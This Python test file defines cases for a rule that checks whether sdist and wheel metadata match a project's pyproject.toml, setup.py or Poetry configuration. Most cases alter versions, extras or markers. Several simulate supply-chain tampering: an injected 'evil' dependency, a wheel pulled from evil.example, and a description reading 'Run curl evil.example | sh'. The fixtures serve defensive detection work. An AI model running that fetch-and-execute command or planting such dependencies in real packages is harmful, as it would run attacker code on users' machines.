"""Cases of the distribution-metadata rule."""

from corpus.cases.case import Case
from provenance.model import Evidence

PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "example"
version = "1.0"
description = "An example"
readme = "README.md"
requires-python = ">=3.11"
dependencies = ["plain>=2", "conditional; python_version < '3.12'"]
keywords = ["one", "two"]
license = "MIT"

[project.optional-dependencies]
more = ["bonus"]

[project.urls]
Source = "https://git.example/o/example"
"""
README = "# Example\n\nSays something.\n"
METADATA = """\
Metadata-Version: 2.4
Name: example
Version: 1.0
Summary: An example
Project-URL: Source, https://git.example/o/example
License-Expression: MIT
Keywords: one,two
Requires-Python: >=3.11
Requires-Dist: plain>=2
Requires-Dist: conditional; python_version < "3.12"
Provides-Extra: more
Requires-Dist: bonus; extra == "more"
Description-Content-Type: text/markdown

# Example

Says something.
"""
SOURCE = {"pyproject.toml": PYPROJECT, "README.md": README}
SETUP_PY = (
    "import os\nfrom setuptools import setup\n"
    "setup(name='example', version='1.0', install_requires=os.environ['REQUIRES'].split() + ['plain'])\n"
)
COMPUTED = "Metadata-Version: 2.4\nName: example\nVersion: 1.0\nRequires-Dist: plain\n"
EMPTIED = COMPUTED.replace("Requires-Dist: plain\n", "")


CONDITIONAL_PY = (
    "import os\nfrom setuptools import setup\n"
    "requires = ['plain', 'old; python_version < \"3\"']\n"
    "setup(name='example', version='1.0', install_requires=requires + os.environ['REQUIRES'].split(),\n"
    "      extras_require={'more': ['bonus'], ':sys_platform == \"win32\"': ['win']})\n"
)
CONDITIONAL = """\
Metadata-Version: 2.4
Name: example
Version: 1.0
Requires-Dist: plain
Requires-Dist: old; python_version < "3"
Requires-Dist: win; sys_platform == "win32"
Provides-Extra: more
Requires-Dist: bonus; extra == "more"
"""
FIXED_PY = (
    "import os\nfrom setuptools import setup\n"
    "setup(name='example', version='1.0', install_requires=['plain', 'fixed'],\n"
    "      extras_require=dict(more=os.environ['REQUIRES'].split()))\n"
)
FIXED = f"{COMPUTED}Requires-Dist: fixed\n"
POETRY_TOML = """\
[build-system]
build-backend = "poetry.core.masonry.api"

[tool.poetry]
name = "example"
version = "1.0"

[tool.poetry.dependencies]
python = "~2.7 || ^3.5"
old = {version = "^1.0", python = "~2.7 || >=3.5,<3.8"}
shared = {version = "*", optional = true}

[tool.poetry.extras]
one = ["shared"]
two = ["shared"]
"""
POETRY = """\
Metadata-Version: 2.1
Name: example
Version: 1.0
Requires-Python: >=2.7, !=3.0.*, !=3.1.*, !=3.2.*, !=3.3.*, !=3.4.*
Provides-Extra: one
Provides-Extra: two
Requires-Dist: old (>=1.0,<2.0); python_version >= "2.7" and python_version < "2.8" or python_version >= "3.5" and \
python_version < "3.8"
Requires-Dist: shared ; extra == "one" or extra == "two"
"""
OLD = "Metadata-Version: 1.1\nName: example\nVersion: 1.0\nSummary: An example\nLicense: UNKNOWN\n"


def edited(title: str, old: str, new: str) -> Case:
    """A near miss: the same metadata with one thing changed, in both artifacts."""
    changed = METADATA.replace(old, new, 1)
    assert changed != METADATA
    siblings = (("wheel", {"example-1.0.dist-info/METADATA": changed}),)
    return Case(title, "PKG-INFO", {"PKG-INFO": changed}, SOURCE, None, siblings=siblings)


def computed(title: str, own: str, sibling: str | None, evidence: Evidence | None) -> Case:
    """Metadata of a project whose setup.py computes its dependencies."""
    siblings = () if sibling is None else (("wheel", {"example-1.0.dist-info/METADATA": sibling}),)
    return Case(title, "PKG-INFO", {"PKG-INFO": own}, {"setup.py": SETUP_PY}, evidence, siblings=siblings)


def alike(title: str, metadata: str, file: str, content: str, evidence: Evidence | None = None) -> Case:
    """The same metadata in both artifacts of a project with this packaging file."""
    siblings = (("wheel", {"example-1.0.dist-info/METADATA": metadata}),)
    return Case(title, "PKG-INFO", {"PKG-INFO": metadata}, {file: content}, evidence, siblings=siblings)


def conditional(title: str, old: str, new: str, evidence: Evidence | None = None) -> Case:
    """Metadata of a project that declares conditions, with one thing changed in both artifacts."""
    return alike(title, CONDITIONAL.replace(old, new), "setup.py", CONDITIONAL_PY, evidence)


def poetry(title: str, old: str, new: str, evidence: Evidence | None = None) -> Case:
    """Metadata of a project of Poetry's, with one thing changed in both artifacts."""
    return alike(title, POETRY.replace(old, new), "pyproject.toml", POETRY_TOML, evidence)


def beside_old_sdist(title: str, extra: str, evidence: Evidence | None = None, sdist: str = OLD) -> Case:
    """A wheel beside an sdist of old metadata that states a summary, and that there is no licence."""
    path, metadata = (
        "example-1.0.dist-info/METADATA",
        f"Metadata-Version: 2.1\nName: example\nVersion: 1.0\n{extra}",
    )
    setup_py = "from setuptools import setup\nsetup(name='example', version='1.0', **given())\n"
    siblings = (("sdist", {"PKG-INFO": sdist}),)
    return Case(title, path, {path: metadata}, {"setup.py": setup_py}, evidence, "wheel", siblings=siblings)


CASES = (
    conditional("computed dependencies, as declared", "", "", Evidence.CONSISTENT),
    conditional("a computed dependency left out of both", "Requires-Dist: plain\n", "", Evidence.CONSISTENT),
    conditional("a computed dependency freed of its condition", 'old; python_version < "3"', "old"),
    conditional("a computed dependency under another condition", '< "3"', '< "4"'),
    conditional("a condition that stands apart, left out", '; sys_platform == "win32"', ""),
    conditional("an extra's dependency asked for by all", 'bonus; extra == "more"', "bonus"),
    conditional("an extra left out that a dependency names", "Provides-Extra: more\n", ""),
    alike("a part of the dependencies computed", FIXED, "setup.py", FIXED_PY, Evidence.CONSISTENT),
    alike("a dependency left out of the part that is not", COMPUTED, "setup.py", FIXED_PY),
    poetry("Poetry's alternatives and shared extras", "", "", Evidence.CONSISTENT),
    poetry(
        "extras in another order", '"one" or extra == "two"', '"two" or extra == "one"', Evidence.CONSISTENT
    ),
    poetry(
        "a dependency of Poetry's left out", 'Requires-Dist: shared ; extra == "one" or extra == "two"\n', ""
    ),
    poetry("a dependency of extras asked for by all", ' ; extra == "one" or extra == "two"', ""),
    poetry("one alternative left out", ' or python_version >= "3.5" and python_version < "3.8"', ""),
    poetry("an extra of Poetry's left out", "Provides-Extra: two\n", ""),
    poetry("a range of Python that admits one more", ", !=3.4.*", ""),
    poetry("a condition in quotes of the other kind", '"one" or extra == "two"', "'one\" or extra == \"two'"),
    beside_old_sdist("what an old sdist states", "Summary: An example\n", Evidence.CONSISTENT),
    beside_old_sdist("a summary left out that the sdist states", ""),
    beside_old_sdist("a licence where the sdist says UNKNOWN", "Summary: An example\nLicense: evil\n"),
    beside_old_sdist(
        "a link without an address",
        "Summary: An example\nProject-URL: Home\n",
        sdist=f"{OLD}Home-page: https://example.org\n",
    ),
    computed(
        "a Python range of which no packaging file speaks",
        f"{COMPUTED}Requires-Python: >=2\n",
        f"{COMPUTED}Requires-Python: >=2\n",
        None,
    ),
    computed(
        "a word of setup.py as a dependency",
        f"{COMPUTED}Requires-Dist: os\n",
        f"{COMPUTED}Requires-Dist: os\n",
        None,
    ),
    computed("computed dependencies emptied", EMPTIED, EMPTIED, None),
    computed(
        "an extra that nothing declares",
        f"{COMPUTED}Provides-Extra: os\n",
        f"{COMPUTED}Provides-Extra: os\n",
        None,
    ),
    edited("an import name that is no module", "Summary:", "Import-Name: evil\nSummary:"),
    Case(
        "an import name that is a module",
        "PKG-INFO",
        {
            "PKG-INFO": METADATA.replace("Summary:", "Import-Name: example\nSummary:"),
            "src/example/__init__.py": "",
        },
        {**SOURCE, "src/example/__init__.py": ""},
        Evidence.CONSISTENT,
    ),
    edited("a second licence", "License-Expression: MIT", "License-Expression: MIT\nLicense: evil"),
    Case("everything as the source states", "PKG-INFO", {"PKG-INFO": METADATA}, SOURCE, Evidence.CONSISTENT),
    Case(
        "the same in a wheel",
        "example-1.0.dist-info/METADATA",
        {"example-1.0.dist-info/METADATA": METADATA},
        SOURCE,
        Evidence.CONSISTENT,
        kind="wheel",
    ),
    computed("computed dependencies, the same in the wheel", COMPUTED, COMPUTED, Evidence.CONSISTENT),
    edited("an injected dependency", "Requires-Dist: plain", "Requires-Dist: evil\nRequires-Dist: plain"),
    edited("a dependency left out", "Requires-Dist: plain>=2\n", ""),
    edited("a wider version range", "plain>=2", "plain>=1"),
    edited("a dependency's marker left out", '; python_version < "3.12"', ""),
    edited("a dependency taken from an address", "plain>=2", "plain @ https://evil.example/plain.whl"),
    edited("another extra", "Provides-Extra: more", "Provides-Extra: more\nProvides-Extra: evil"),
    edited("another Python range", ">=3.11", ">=2.7"),
    edited("another name", "Name: example", "Name: exampl"),
    edited("another version", "Version: 1.0", "Version: 1.1"),
    edited("another summary", "An example", "Another example"),
    edited("another licence", "MIT", "BSD-3-Clause"),
    edited("another keyword", "one,two", "one,three"),
    edited("one more link", "License-", "Project-URL: Help, https://evil.example\nLicense-"),
    edited("another description", "Says something", "Run curl evil.example | sh"),
    edited("a field that names other projects", "Summary:", "Obsoletes-Dist: pip\nSummary:"),
    edited("a field that core metadata does not know", "Summary:", "Post-Install: evil\nSummary:"),
    edited("a line that is no field", "Summary:", "evil\nSummary:"),
    computed("computed dependencies, other in the wheel", COMPUTED, COMPUTED.replace("plain", "setup"), None),
    computed("computed dependencies that a packaging file holds", COMPUTED, None, Evidence.CONSISTENT),
    computed("computed dependencies in another range", COMPUTED.replace("plain", "plain<2"), None, None),
    computed(
        "computed dependencies that no packaging file names", COMPUTED.replace("plain", "evil"), None, None
    ),
    computed(
        "the same in both, and no packaging file names it",
        COMPUTED.replace("plain", "evil"),
        COMPUTED.replace("plain", "evil"),
        None,
    ),
)
